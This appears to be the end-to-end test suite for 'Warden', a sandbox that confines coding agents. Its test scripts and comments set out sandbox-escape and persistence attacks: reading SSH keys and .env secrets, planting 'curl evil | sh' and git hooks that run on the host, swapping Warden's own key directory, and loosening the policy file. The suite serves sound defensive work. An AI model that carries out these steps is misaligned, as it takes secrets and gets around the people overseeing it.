import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, linkSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { ROOT, warden } from '../helpers/cli.js';
import { tempDir, workspaceDir, writeFile } from '../helpers/tmp.js';

/** `warden run` end to end through the real CLI, the real helper and the real kernel. */

const root = tempDir('warden-run-');
chmodSync(root, 0o755);
const home = join(root, 'home');
const ws = join(root, 'ws');
const wardenHome = join(root, 'warden');
mkdirSync(home, { recursive: true });
mkdirSync(ws, { recursive: true });
const env = { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, WARDEN_HOME: wardenHome, LANG: 'C.UTF-8', SECRET_TOKEN: 'hunter2' };
const run = (args: string[], cwd = ws) => warden(['run', ...args], { cwd, env });

/** A workspace of its own, and this file's env with a WARDEN_HOME of its own. */
function scratchSession(prefix: string): { r0: string; w: string; e: NodeJS.ProcessEnv } {
  const { root, ws } = workspaceDir(prefix);
  return { r0: root, w: ws, e: { ...env, WARDEN_HOME: join(root, 'warden') } };
}

test('exit code is the command\'s own; 128+N when it is killed by signal N', () => {
  assert.equal(run(['--', 'true']).code, 0);
  assert.equal(run(['--', 'sh', '-c', 'exit 7']).code, 7);
  assert.equal(run(['--', 'sh', '-c', 'kill -TERM $$']).code, 128 + 15);
});

test('the default profile: the workspace is writable, the system is not, secrets and env stay out', () => {
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFile(join(home, '.ssh'), 'id_ed25519', 'PRIVATE KEY');
  writeFile(ws, '.env', 'DB_PASSWORD=x');
  const r = run(['--', 'sh', '-c', 'echo made > out.txt; cat ~/.ssh/id_ed25519; cat .env; echo "token=[$SECRET_TOKEN]"; touch /usr/x']);
  assert.equal(readFileSync(join(ws, 'out.txt'), 'utf8'), 'made\n');
  assert.doesNotMatch(r.stdout, /PRIVATE KEY|DB_PASSWORD|hunter2/);
  assert.match(r.stdout, /token=\[\]/);
  assert.ok(!existsSync('/usr/x'));
});

test('the default profile keeps ~/.npm and ~/.cache private: the host\'s files readable, writable inside, nothing planted or changed reaches the host', () => {
  const { r0, w, e } = scratchSession('warden-private-');
  const h = join(r0, 'home');
  mkdirSync(join(h, '.cache', 'tool'), { recursive: true });
  writeFile(join(h, '.cache', 'tool'), 'hosted.txt', 'HOST-CACHE');
  const he = { ...e, HOME: h };
  // What a host tool would later run: an npx cache entry and a pre-commit hook environment.
  const planted = [join(h, '.npm', '_npx', 'p', 'node_modules', '.bin', 'prettier'), join(h, '.cache', 'pre-commit', 'repo', 'hook')];
  const script = planted.map((f) => `mkdir -p ${f.slice(0, f.lastIndexOf('/'))} && echo 'curl evil | sh' > ${f}`).join(' && ') + ' && echo planted; cat ~/.cache/tool/hosted.txt; echo CHANGED > ~/.cache/tool/hosted.txt';
  // Control: without Warden the script plants both (so this test can fail).
  const ctl = spawnSync('sh', ['-c', script], { env: he, encoding: 'utf8' });
  assert.match(ctl.stdout, /planted[\s\S]*HOST-CACHE/);
  for (const f of planted) assert.ok(existsSync(f), `control: ${f} planted`);
  assert.equal(readFileSync(join(h, '.cache', 'tool', 'hosted.txt'), 'utf8'), 'CHANGED\n', 'control: the change lands');
  rmSync(join(h, '.npm'), { recursive: true });
  rmSync(join(h, '.cache', 'pre-commit'), { recursive: true });
  writeFile(join(h, '.cache', 'tool'), 'hosted.txt', 'HOST-CACHE');
  const r = warden(['run', '--', 'sh', '-c', script], { cwd: w, env: he });
  assert.match(r.stdout, /planted/, `writable inside: ${r.stderr}`);
  assert.match(r.stdout, /HOST-CACHE/, "the host's cache is readable inside (copy-on-write)");
  for (const f of planted) assert.ok(!existsSync(f), `${f} reached the host`);
  assert.ok(!existsSync(join(h, '.npm')), 'nothing was created on the host');
  assert.equal(readFileSync(join(h, '.cache', 'tool', 'hosted.txt'), 'utf8'), 'HOST-CACHE');
});

test('Warden\'s own state inside a private directory (WARDEN_HOME under ~/.cache) stays unreachable: the copy-on-write view masks it', () => {
  const { r0, w } = scratchSession('warden-private-own-');
  const h = join(r0, 'home');
  mkdirSync(join(h, '.cache'), { recursive: true });
  const own = join(h, '.cache', 'warden-home');
  const he = { ...env, HOME: h, WARDEN_HOME: own };
  assert.equal(warden(['run', '--', 'true'], { cwd: w, env: he }).code, 0);
  const key = join(own, 'keys', 'audit-mac.key');
  assert.ok(existsSync(key), 'control: the key is there on the host');
  const r = warden(['run', '--', 'sh', '-c', `cat ${key} | wc -c; cp -r ${own} /tmp/copy; find /tmp/copy -type f | wc -l`], { cwd: w, env: he });
  assert.equal(r.code, 0, r.stderr);
  assert.deepEqual(r.stdout.trim().split(/\s+/), ['0', '0'], `nothing of Warden's state read: ${r.stdout}`);
});

test('the default profile keeps a repository\'s hooks and config read-only and in place; git itself still commits and branches', () => {
  const { r0, w, e } = scratchSession('warden-git-');
  const git = (args: string[], cwd = w) => spawnSync('git', ['-c', 'user.email=a@example.com', '-c', 'user.name=u', ...args], { cwd, encoding: 'utf8' });
  const repo = (dir: string) => {
    mkdirSync(dir, { recursive: true });
    assert.equal(git(['init', '-q', '.'], dir).status, 0);
    assert.equal(git(['commit', '-q', '--allow-empty', '-m', 'init'], dir).status, 0);
  };
  repo(w);
  const hook = join(w, '.git', 'hooks', 'post-checkout');
  // What would run on the host at the user's next git command: a hook, core.fsmonitor, and a whole
  // .git of the agent's own in place of the real one.
  const plant = `echo 'touch pwned' > .git/hooks/post-checkout; git config core.fsmonitor 'touch pwned'; mv .git .git-real && mkdir -p .git/hooks && echo planted > .git/hooks/pre-commit`;
  const commit = 'echo hi > a.txt && git add a.txt && git -c user.email=a@example.com -c user.name=u commit -q -m second && git checkout -q -b feature && echo committed';
  // Control: without Warden the same script plants all three (so this test can fail).
  const ctlDir = join(r0, 'control');
  repo(ctlDir);
  spawnSync('sh', ['-c', plant], { cwd: ctlDir });
  assert.ok(existsSync(join(ctlDir, '.git-real', 'hooks', 'post-checkout')) && existsSync(join(ctlDir, '.git', 'hooks', 'pre-commit')), 'control: planted');
  assert.match(git(['config', '--get', 'core.fsmonitor'], join(ctlDir, '.git-real')).stdout, /pwned/);
  const r = warden(['run', '--', 'sh', '-c', `${plant}; ${commit}`], { cwd: w, env: e });
  assert.match(r.stdout, /committed/, `git still works inside: ${r.stderr}`);
  assert.ok(!existsSync(hook), 'no hook planted');
  assert.ok(!existsSync(join(w, '.git-real')), '.git was not moved away');
  assert.ok(!existsSync(join(w, '.git', 'hooks', 'pre-commit')));
  assert.notEqual(git(['config', '--get', 'core.fsmonitor']).status, 0, 'config unchanged');
  assert.equal(git(['log', '--oneline']).stdout.trim().split('\n').length, 2, 'the commit made inside is there');
  assert.match(git(['branch', '--list', 'feature']).stdout, /feature/);
  // A worktree: its .git is a file naming the real git directory, and that file is kept in place.
  const wt = join(r0, 'wt');
  assert.equal(git(['worktree', 'add', '-q', wt]).status, 0);
  const pointer = readFileSync(join(wt, '.git'), 'utf8');
  const repoint = `echo "gitdir: ${join(wt, 'evil')}" > .git; mv .git .git-moved`;
  const rw = warden(['run', '--', 'sh', '-c', `${repoint}; echo done`], { cwd: wt, env: e });
  assert.match(rw.stdout, /done/, rw.stderr);
  assert.equal(readFileSync(join(wt, '.git'), 'utf8'), pointer, "the worktree's .git file is unchanged");
  assert.ok(!existsSync(join(wt, '.git-moved')));
  spawnSync('sh', ['-c', repoint], { cwd: wt });
  assert.ok(existsSync(join(wt, '.git-moved')), 'control: without Warden it is moved');
});

test('what a session leaves that runs outside the sandbox (a new repository\'s hooks and config, editor tasks) is reported on stderr and in the audit log', () => {
  const { r0, w, e } = scratchSession('warden-persist-');
  const r = warden(['run', '--', 'sh', '-c', "git init -q . && echo 'touch pwned' > .git/hooks/post-checkout && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo made > notes.txt"], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stderr.trim().split('\n');
  assert.equal(lines.length, 1, r.stderr);
  assert.match(lines[0]!, /^warden: this session changed files in the workspace that run outside the sandbox: \.git\/config \(created\), \.git\/hooks\/post-checkout \(created\), \.vscode\/tasks\.json \(created\) \(fix: /);
  assert.doesNotMatch(lines[0]!, /notes\.txt|\.sample/);
  const auditDir = join(r0, 'warden', 'state', 'audit');
  const records = readdirSync(auditDir)
    .filter((d) => !d.startsWith('.'))
    .flatMap((l) => readdirSync(join(auditDir, l)).filter((f) => f.endsWith('.jsonl')).flatMap((f) => readFileSync(join(auditDir, l, f), 'utf8').trim().split('\n')))
    .map((l) => JSON.parse(l) as { kind?: string; decision?: string; detail?: { changes?: Array<{ path: string; change: string }> } });
  const kinds = records.map((x) => x.kind);
  const p = records.find((x) => x.kind === 'session.persistence');
  assert.equal(p?.decision, 'warn');
  assert.deepEqual(p?.detail?.changes?.map((c) => c.path), ['.git/config', '.git/hooks/post-checkout', '.vscode/tasks.json']);
  assert.ok(kinds.indexOf('session.persistence') < kinds.indexOf('session.end'), 'before the end record');
  // A session that touches none of them says nothing.
  const quiet = warden(['run', '--', 'sh', '-c', 'echo more >> notes.txt'], { cwd: w, env: e });
  assert.equal(quiet.code, 0);
  assert.equal(quiet.stderr, '');
});

test('refusals are exit 126 with one line on stderr, and nothing runs', () => {
  const marker = join(ws, 'ran');
  const cases: Array<[string[], RegExp, string?]> = [
    [['--'], /no command/],
    [['--workspace', join(root, 'nope'), '--', 'touch', marker], /does not exist/],
    [['--workspace', writeFile(root, 'a-file', 'x'), '--', 'touch', marker], /not a directory/],
    [['--allow-degraded', 'userns', '--', 'touch', marker], /cannot be degraded|not a layer/],
    [['--profile', 'nope', '--', 'touch', marker], /unknown profile/],
    [['--policy', writeFile(root, 'bad.yaml', 'version: 1\nfilesytem: {}\n'), '--', 'touch', marker], /unknown key "filesytem"/],
    [['--policy', writeFile(root, 'own.yaml', `version: 1\nfilesystem:\n  read: ["${wardenHome}/state"]\n`), '--', 'touch', marker], /Warden's own state/],
    [['--policy', 'p.yaml', '--profile', 'coding-agent', '--', 'true'], /mutually exclusive/],
    [['--bogus', '--', 'true'], /Unknown option|unknown/i],
  ];
  mkdirSync(join(wardenHome, 'state'), { recursive: true });
  for (const [args, re] of cases) {
    const r = run(args);
    assert.equal(r.code, 126, `${args.join(' ')} → ${r.code} ${r.stderr}`);
    const lines = r.stderr.trim().split('\n');
    assert.equal(lines.length, 1, `${args.join(' ')}: ${r.stderr}`);
    assert.match(lines[0]!, /^warden: /);
    assert.match(lines[0]!, re);
    assert.ok(!existsSync(marker), `${args.join(' ')} ran the command`);
  }
});

test('a missing program is 127 with a clear line', () => {
  const r = run(['--', 'definitely-not-a-program-xyz']);
  assert.equal(r.code, 127);
  assert.match(r.stderr, /not found/);
});

test('every session leaves a genesis, a start and an end record in the audit log', () => {
  run(['--', 'sh', '-c', 'exit 3']);
  const auditDir = join(wardenHome, 'state', 'audit');
  const logs = readdirSync(auditDir).filter((d) => !d.startsWith('.'));
  assert.ok(logs.length >= 1);
  const all = logs.flatMap((l) => readdirSync(join(auditDir, l)).filter((f) => f.endsWith('.jsonl')).map((f) => readFileSync(join(auditDir, l, f), 'utf8'))).join('');
  const recs = all.trim().split('\n').map((l) => JSON.parse(l) as { type?: string; kind?: string; detail?: { exitCode?: number } });
  assert.ok(recs.some((r) => r.type === 'genesis'));
  assert.ok(recs.some((r) => r.kind === 'session.start'));
  assert.ok(recs.some((r) => r.kind === 'session.end' && r.detail?.exitCode === 3));
  const v = warden(['audit', 'verify', '--json'], { env });
  assert.equal(v.code, 0, v.stdout + v.stderr);
});

test('a writable parent of Warden\'s state is refused on every run, also once the state exists and would be masked', () => {
  // The attack this stops: with $HOME writable, the agent renames ~/.warden (the masks on its
  // subdirectories move along) and makes a new one with keys and caches of its choosing, which the
  // next `warden run` would load outside any sandbox.
  const r0 = tempDir('warden-own-');
  chmodSync(r0, 0o755);
  const h = join(r0, 'home');
  const w = join(r0, 'ws');
  mkdirSync(h);
  mkdirSync(w);
  const e = { ...env, HOME: h, WARDEN_HOME: join(h, '.warden') };
  const attack = 'mv "$HOME/.warden" "$HOME/.moved" && mkdir -p "$HOME/.warden/state/cache" && echo moved';
  // Control: without Warden the rename works (on a copy, so the real state stays put).
  const c = join(r0, 'control');
  mkdirSync(join(c, '.warden', 'keys'), { recursive: true });
  assert.equal(spawnSync('sh', ['-c', attack], { env: { ...e, HOME: c }, encoding: 'utf8' }).stdout, 'moved\n', 'control: the rename works without Warden');

  assert.equal(warden(['run', '--workspace', w, '--', 'true'], { cwd: w, env: e }).code, 0, 'a first run creates the state');
  assert.ok(existsSync(join(h, '.warden', 'keys')));
  const writable = writeFile(r0, 'home-write.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  write: ["${h}"]\n`);
  for (let i = 0; i < 2; i++) {
    const r = warden(['run', '--policy', writable, '--workspace', w, '--', 'sh', '-c', attack], { cwd: w, env: e });
    assert.equal(r.code, 126, `run ${i + 1}: ${r.stdout}${r.stderr}`);
    assert.match(r.stderr, /^warden: .*may not write around Warden's own state: .* contains .*\.warden/);
    assert.ok(existsSync(join(h, '.warden', 'keys')) && !existsSync(join(h, '.moved')), `run ${i + 1}: the state was not moved`);
  }
  // Reading around it stays possible: the state itself is masked.
  const readable = writeFile(r0, 'home-read.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  read: ["${h}"]\n`);
  const r = warden(['run', '--policy', readable, '--workspace', w, '--', 'sh', '-c', 'cat "$HOME/.warden/keys/audit-mac.key" || echo masked; mv "$HOME/.warden" "$HOME/.moved" || echo kept'], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /masked\n[\s\S]*kept/);
  assert.ok(existsSync(join(h, '.warden', 'keys')) && !existsSync(join(h, '.moved')));
});

test('a policy file inside the workspace is read-only inside: the agent cannot weaken its next session', () => {
  const { r0, w, e } = scratchSession('warden-pin-');
  const text = 'version: 1\nextends: coding-agent\n';
  const policy = writeFile(w, 'warden.yaml', text);
  writeFile(w, 'notes.txt', '');
  const tamper = 'echo "network: {allow: [\\"*\\"]}" >> warden.yaml || echo no-append; rm -f warden.yaml || echo no-rm; mv warden.yaml x.yaml || echo no-mv; echo ok >> notes.txt';
  const r = warden(['run', '--policy', 'warden.yaml', '--workspace', w, '--', 'sh', '-c', tamper], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /no-append\n[\s\S]*no-rm\n[\s\S]*no-mv/);
  assert.equal(readFileSync(policy, 'utf8'), text, 'the policy file is unchanged on the host');
  assert.equal(readFileSync(join(w, 'notes.txt'), 'utf8'), 'ok\n', 'control: the rest of the workspace is writable');
  // A write grant naming the file itself does not win over the protection.
  const globbed = writeFile(w, 'globbed.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  write: ["${w}/*.yaml"]\n`);
  const g = warden(['run', '--policy', globbed, '--workspace', w, '--', 'sh', '-c', 'echo "# x" >> globbed.yaml || echo no-append'], { cwd: w, env: e });
  assert.equal(g.code, 0, g.stderr);
  assert.match(g.stdout, /no-append/);
  assert.doesNotMatch(readFileSync(globbed, 'utf8'), /# x/);
  // Control: under the default profile (no policy file) the same file is the agent's to change.
  const d = warden(['run', '--workspace', w, '--', 'sh', '-c', 'echo "# changed" >> warden.yaml'], { cwd: w, env: e });
  assert.equal(d.code, 0, d.stderr);
  assert.notEqual(readFileSync(policy, 'utf8'), text);
});

test('directories above a masked path or a pinned policy file inside a write grant cannot be moved: the path is still there next session', () => {
  const { r0, w, e } = scratchSession('warden-pins-');
  mkdirSync(join(w, 'a', 'b'), { recursive: true });
  mkdirSync(join(w, 'conf'));
  writeFile(join(w, 'a', 'b'), 'secret.txt', 'TOKEN');
  const text = `version: 1\nextends: coding-agent\nfilesystem:\n  deny: ["${join(w, 'a', 'b', 'secret.txt')}"]\n`;
  writeFile(join(w, 'conf'), 'warden.yaml', text);
  const moves = 'for p in a a/b conf; do mv "$p" "$p.moved" 2>/dev/null && echo "moved $p" || echo "kept $p"; done; cat a/b/secret.txt 2>/dev/null || echo masked; mkdir -p x/y && mv x x2 && echo "moved x"';
  // Control: without Warden every one of them moves.
  const c = join(r0, 'control');
  mkdirSync(join(c, 'a', 'b'), { recursive: true });
  mkdirSync(join(c, 'conf'));
  assert.match(spawnSync('sh', ['-c', moves], { cwd: c, encoding: 'utf8' }).stdout, /^moved a\n[\s\S]*^moved conf$/m);
  const r = warden(['run', '--policy', join(w, 'conf', 'warden.yaml'), '--workspace', w, '--', 'sh', '-c', moves], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^kept a\nkept a\/b\nkept conf\nmasked\nmoved x$/m, 'pinned and masked paths stay; an unrelated directory still moves');
  assert.equal(readFileSync(join(w, 'a', 'b', 'secret.txt'), 'utf8'), 'TOKEN');
  assert.equal(readFileSync(join(w, 'conf', 'warden.yaml'), 'utf8'), text);
});

test('Warden\'s own package is read-only inside when a write grant holds it, and a workspace inside it is refused', () => {
  const { r0, w, e } = scratchSession('warden-pkg-');
  const planted = join(ROOT, 'dist', '.warden-test-planted');
  rmSync(planted, { force: true });
  // The next `warden run` executes this package outside any sandbox (an npx cache in a writable
  // ~/.npm, a checkout used as a workspace): the agent must not be able to change it.
  const policy = writeFile(r0, 'pkg.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  write: ["${ROOT}"]\n`);
  const r = warden(['run', '--policy', policy, '--workspace', w, '--', 'sh', '-c', `touch ${planted} || echo refused-write; echo ok > ${join(w, 'mine')}`], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /refused-write/);
  assert.ok(!existsSync(planted), 'nothing was planted in the package');
  rmSync(planted, { force: true });
  assert.equal(readFileSync(join(w, 'mine'), 'utf8'), 'ok\n', 'control: the workspace itself is writable');
  const inside = warden(['run', '--workspace', join(ROOT, 'dist'), '--', 'true'], { cwd: w, env: e });
  assert.equal(inside.code, 126, 'a workspace inside the package (its bundle runs outside any sandbox next time) is refused');
  assert.match(inside.stderr, /^warden: the workspace .*dist lies in .*which the agent must not change/);
});

test('a literal ask zone whose directories do not exist yet does not stop the session', () => {
  const { r0, w, e } = scratchSession('warden-ask-missing-');
  const policy = writeFile(r0, 'ask.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  ask: ["${w}/not/yet/zone.txt"]\n`);
  const r = warden(['run', '--policy', policy, '--workspace', w, '--', 'sh', '-c', 'echo ran'], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout, 'ran\n');
});

test('a literal deny path or the policy file named through a symlink the agent can change, or a policy file with a second hard link, is refused', () => {
  // The attack: the deny names ws/.env -> config/env; the agent points .env at a decoy, and the
  // next session masks the decoy while config/env is readable.
  const { r0, w, e } = scratchSession('warden-link-');
  mkdirSync(join(w, 'config'));
  writeFile(join(w, 'config'), 'env', 'SECRET');
  symlinkSync('config/env', join(w, '.env'));
  const viaLink = writeFile(r0, 'link.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  deny: ["${join(w, '.env')}"]\n`);
  const r = warden(['run', '--policy', viaLink, '--workspace', w, '--', 'true'], { cwd: w, env: e });
  assert.equal(r.code, 126, r.stderr);
  assert.match(r.stderr, /^warden: filesystem\.deny .*\.env is reached through the symlink .*\.env, which the agent can change/);
  const real = writeFile(r0, 'real.yaml', `version: 1\nextends: coding-agent\nfilesystem:\n  deny: ["${join(w, 'config', 'env')}"]\n`);
  const ok = warden(['run', '--policy', real, '--workspace', w, '--', 'sh', '-c', 'cat .env || echo masked'], { cwd: w, env: e });
  assert.equal(ok.code, 0, ok.stderr);
  assert.match(ok.stdout, /masked/, 'named by its real path the secret is masked, through the link too');
  // A policy file with a second name in the workspace: the same file, writable through that name.
  const twice = writeFile(w, 'twice.yaml', 'version: 1\nextends: coding-agent\n');
  linkSync(twice, join(w, 'notes.txt'));
  const h = warden(['run', '--policy', twice, '--workspace', w, '--', 'true'], { cwd: w, env: e });
  assert.equal(h.code, 126, h.stderr);
  assert.match(h.stderr, /twice\.yaml has 2 names \(hard links\)/);
  // The policy file itself behind a link in the workspace.
  writeFile(w, 'real-policy.yaml', 'version: 1\nextends: coding-agent\n');
  symlinkSync('real-policy.yaml', join(w, 'policy.yaml'));
  const p = warden(['run', '--policy', join(w, 'policy.yaml'), '--workspace', w, '--', 'true'], { cwd: w, env: e });
  assert.equal(p.code, 126, p.stderr);
  assert.match(p.stderr, /policy\.yaml is reached through the symlink/);
});

test('the MCP lockfile (pinned tool definitions) inside the workspace is read-only inside', () => {
  // Rewritten by the agent, it would pre-approve changed tool definitions for the next gateway run.
  const { r0, w, e } = scratchSession('warden-lock-');
  const lock = writeFile(w, 'mcp.lock', '{}\n');
  const policy = writeFile(r0, 'mcp.yaml', `version: 1\nextends: coding-agent\nmcp:\n  lockfile: ${lock}\n`);
  const r = warden(['run', '--policy', policy, '--workspace', w, '--', 'sh', '-c', 'echo "{\\"x\\":1}" > mcp.lock || echo no-write; echo ok > other'], { cwd: w, env: e });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /no-write/);
  assert.equal(readFileSync(lock, 'utf8'), '{}\n');
  assert.equal(readFileSync(join(w, 'other'), 'utf8'), 'ok\n');
});
